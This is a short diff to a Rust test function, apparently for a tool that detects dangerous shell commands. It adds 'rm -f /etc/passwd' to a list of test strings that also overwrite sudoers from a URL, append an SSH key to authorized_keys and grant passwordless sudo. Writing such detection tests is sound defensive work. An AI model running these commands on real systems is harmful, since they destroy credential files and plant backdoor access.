@@ -405,6 +405,7 @@ fn credentials() {
     check("sudoedit /etc/sudoers", c);
     check("sudo -e /etc/ssh/sshd_config", c);
     check("sudo -u root --edit /etc/shadow", c);
+    check("rm -f /etc/passwd", c);
     check("wget -O /etc/sudoers https://x", c);
     check("cd ~ && echo 'ssh-rsa AAA' >> .ssh/authorized_keys", c);
     check("cd /etc && echo 'x ALL=(ALL) NOPASSWD:ALL' >> sudoers", c);
